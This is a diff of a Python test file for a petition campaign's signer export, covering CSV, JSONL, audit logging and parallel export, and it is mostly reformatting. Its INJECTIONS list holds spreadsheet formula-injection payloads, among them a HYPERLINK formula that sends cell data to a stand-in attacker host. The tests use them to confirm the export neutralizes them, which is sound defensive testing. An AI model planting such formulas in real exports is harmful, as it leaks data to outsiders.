@@ -15,8 +15,14 @@ from campaign.services import crypto, export
 from campaign.services.signers import SignerFilter
 from tests.admin.conftest import campaign_content, campaign_row, make_signature
 
-INJECTIONS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "+1", "@SUM(A1:A9)", "-2",
-              "\tTab", "\rCarriage"]  # fmt: skip
+INJECTIONS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "+1",
+    "@SUM(A1:A9)",
+    "-2",
+    "\tTab",
+    "\rCarriage",
+]
 
 
 def read_csv(text: str) -> list[dict]:
@@ -37,8 +43,9 @@ def test_neutralize_prefixes_every_dangerous_start():
 
 def test_csv_injection_in_names_and_comments_is_neutralized(app):
     for n, payload in enumerate(INJECTIONS):
-        make_signature("Placeholder Name", f"inj{n}@example.org", raw_name=payload,
-                       raw_comment=payload)  # fmt: skip
+        make_signature(
+            "Placeholder Name", f"inj{n}@example.org", raw_name=payload, raw_comment=payload
+        )
     text = full_csv()
     rows = read_csv(text)
     assert len(rows) == len(INJECTIONS)
@@ -54,8 +61,9 @@ def test_csv_injection_in_names_and_comments_is_neutralized(app):
 
 
 def test_csv_matches_the_database_row_for_row(app):
-    make_signature("Maryam Ahmadi", "maryam@example.org", "DE", comment="For my uncle",
-                   source="twitter")  # fmt: skip
+    make_signature(
+        "Maryam Ahmadi", "maryam@example.org", "DE", comment="For my uncle", source="twitter"
+    )
     make_signature("Reza Karimi", "reza@example.net", "FR", contact=False)
     make_signature("Sara Tehrani", "sara@example.org", "SE", status=SignatureStatus.PENDING)
     make_signature("Nima Rahimi", "nima@example.org", "IR", language="fa")
@@ -112,15 +120,17 @@ def test_excel_option_adds_a_bom_and_utf8_survives(app):
 
 
 def test_jsonl_is_in_the_osdi_shape(app):
-    make_signature("Maryam Ahmadi Tehrani", "maryam@example.org", "DE", comment="Justice",
-                   source="newsletter")  # fmt: skip
+    make_signature(
+        "Maryam Ahmadi Tehrani", "maryam@example.org", "DE", comment="Justice", source="newsletter"
+    )
     make_signature("Cher", "cher@example.org", "FR", contact=False).delivery_consent = True
     db.session.commit()
     lines = "".join(export.export_jsonl(campaign_row().id, "full", SignerFilter())).splitlines()
     first, second = (json.loads(line) for line in lines)
     assert first["given_name"] == "Maryam Ahmadi" and first["family_name"] == "Tehrani"
-    assert first["email_addresses"] == [{"address": "maryam@example.org", "primary": True,
-                                         "status": "subscribed"}]  # fmt: skip
+    assert first["email_addresses"] == [
+        {"address": "maryam@example.org", "primary": True, "status": "subscribed"}
+    ]
     assert first["postal_addresses"] == [{"country": "DE"}]
     assert first["action_date"].endswith("Z")
     assert first["comments"] == "Justice"
@@ -149,12 +159,24 @@ def test_summary_has_counts_and_no_personal_data(app):
 
 def test_build_records_the_export_in_the_audit_log(app):
     make_signature()
-    job = export.build(campaign_content(), campaign_row(), preset="mailing", fmt="csv",
-                       filters=SignerFilter(country="DE"), via="cli")  # fmt: skip
+    job = export.build(
+        campaign_content(),
+        campaign_row(),
+        preset="mailing",
+        fmt="csv",
+        filters=SignerFilter(country="DE"),
+        via="cli",
+    )
     event = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "export")).one()
     details = json.loads(event.details)
-    assert details == {"preset": "mailing", "format": "csv", "excel": False, "rows": 1,
-                       "filters": {"country": "DE"}, "via": "cli"}  # fmt: skip
+    assert details == {
+        "preset": "mailing",
+        "format": "csv",
+        "excel": False,
+        "rows": 1,
+        "filters": {"country": "DE"},
+        "via": "cli",
+    }
     assert job.rows == 1 and len(read_csv("".join(job.chunks))) == 1
 
 
@@ -168,12 +190,23 @@ def test_export_streams_in_constant_memory(app, monkeypatch):
     name, email = crypto.encrypt("Bulk Signer"), crypto.encrypt("bulk@example.org")
 
     def add(n: int, start: int) -> None:
-        db.session.execute(insert(Signature), [
-            {"campaign_id": campaign_id, "status": "confirmed", "dedup_key": f"k{start + i}",
-             "email_enc": email, "name_enc": name, "country": "DE", "language": "en",
-             "referral_code": f"r{start + i}", "contact_consent": True}
-            for i in range(n)
-        ])  # fmt: skip
+        db.session.execute(
+            insert(Signature),
+            [
+                {
+                    "campaign_id": campaign_id,
+                    "status": "confirmed",
+                    "dedup_key": f"k{start + i}",
+                    "email_enc": email,
+                    "name_enc": name,
+                    "country": "DE",
+                    "language": "en",
+                    "referral_code": f"r{start + i}",
+                    "contact_consent": True,
+                }
+                for i in range(n)
+            ],
+        )
         db.session.commit()
 
     def peak_for_export() -> int:
@@ -207,23 +240,42 @@ def test_parallel_export_equals_the_serial_one_cell_for_cell(app, monkeypatch, t
     for n in range(1200):
         key = f"{n:032x}"
         name = INJECTIONS[n % len(INJECTIONS)] if n % 7 == 0 else f"Signer {n}"
-        rows.append({
-            "campaign_id": campaign_id, "status": "confirmed", "dedup_key": f"p{n}",
-            "row_key": key, "name_enc": crypto.seal_signer(name, "name_enc", key),
-            "email_enc": crypto.seal_signer(f"s{n}@example.org", "email_enc", key),
-            "comment_enc": crypto.seal_signer("=1+1" if n % 5 == 0 else None, "comment_enc",
-                                              key),
-            "country": "DE", "language": "en", "referral_code": f"p{n}",
-            "source": "-minus" if n % 11 == 0 else None})  # fmt: skip
+        rows.append(
+            {
+                "campaign_id": campaign_id,
+                "status": "confirmed",
+                "dedup_key": f"p{n}",
+                "row_key": key,
+                "name_enc": crypto.seal_signer(name, "name_enc", key),
+                "email_enc": crypto.seal_signer(f"s{n}@example.org", "email_enc", key),
+                "comment_enc": crypto.seal_signer(
+                    "=1+1" if n % 5 == 0 else None, "comment_enc", key
+                ),
+                "country": "DE",
+                "language": "en",
+                "referral_code": f"p{n}",
+                "source": "-minus" if n % 11 == 0 else None,
+            }
+        )
     db.session.execute(insert(Signature), rows)
     db.session.commit()
     serial = full_csv()
     monkeypatch.setattr(export_parallel, "MIN_IDS", 1)
     monkeypatch.setattr(export_parallel, "RANGE_IDS", 100)  # 12 ranges over 2 processes
     out = tmp_path / "full.csv"
-    result = app.test_cli_runner().invoke(args=[
-        "export", "--campaign", campaign_content().slug, "--preset", "full",
-        "--processes", "2", "--output", str(out)])  # fmt: skip
+    result = app.test_cli_runner().invoke(
+        args=[
+            "export",
+            "--campaign",
+            campaign_content().slug,
+            "--preset",
+            "full",
+            "--processes",
+            "2",
+            "--output",
+            str(out),
+        ]
+    )
     assert result.exit_code == 0, result.output
     with out.open(encoding="utf-8", newline="") as written:
         assert written.read() == serial
